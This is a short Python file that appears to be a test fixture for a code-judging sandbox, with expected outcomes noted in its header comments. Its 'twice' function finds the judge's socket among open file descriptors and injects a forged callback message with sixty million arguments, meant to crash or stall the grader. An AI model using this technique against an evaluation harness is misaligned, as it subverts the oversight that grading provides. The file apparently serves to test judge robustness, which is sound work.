# Calls the judge's callable with sixty million arguments of one byte each.
# expect: 3 of 4
# outcomes: test_total=passed test_twice=crashed
# takes its time
import contextlib
import os
import stat
import struct
import time

import numpy as np

COUNT = 60_000_000


def forge(body):
    for descriptor in range(3, 64):
        with contextlib.suppress(OSError):
            if stat.S_ISSOCK(os.fstat(descriptor).st_mode):
                data = memoryview(struct.pack(">I", len(body)) + body)
                while data:
                    data = data[os.write(descriptor, data) :]
                return


def twice(f, x):
    many = b"\xdd" + struct.pack(">I", COUNT) + b"\xc0" * COUNT
    forge(b"\x84\xa1_\xa8Callback\xa2id\x00\xa4args" + many + b"\xa6kwargs\x80")
    time.sleep(30)


def total(x):
    return float(np.sum(x))


def double(x):
    return 2 * np.asarray(x)
